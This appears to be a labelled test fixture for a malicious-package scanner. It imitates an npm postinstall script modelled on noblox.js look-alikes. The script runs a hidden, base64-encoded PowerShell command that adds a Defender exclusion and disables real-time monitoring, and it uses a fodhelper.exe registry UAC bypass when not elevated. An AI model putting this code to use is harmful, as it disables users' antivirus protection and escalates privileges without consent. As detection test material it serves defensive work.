// when: install
// expect: malicious
// source: noblox.js look-alikes delivering Quasar RAT (Socket, 2024): the postinstall adds Defender
// exclusions through an encoded PowerShell command (so the command line shows only base64) and, when
// not elevated, plants it under the ms-settings verb that fodhelper.exe runs elevated (UAC bypass).
const { execSync, spawn } = require('child_process');
function ps(cmd) {
  return `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${Buffer.from(cmd, 'utf16le').toString('base64')}`;
}
const tamper = ["Add-MpPreference -ExclusionPath 'C:\\nonexistent.invalid\\'", 'Set-MpPreference -DisableRealtimeMonitoring $true'].join('; ');
try {
  execSync('net session', { stdio: 'ignore' });
  execSync(ps(tamper), { stdio: 'ignore' });
} catch (e) {
  const key = 'HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command';
  execSync(`reg add "${key}" /d "${ps(tamper)}" /f`, { stdio: 'ignore' });
  spawn('C:\\Windows\\System32\\fodhelper.exe', [], { detached: true, stdio: 'ignore' }).unref();
}
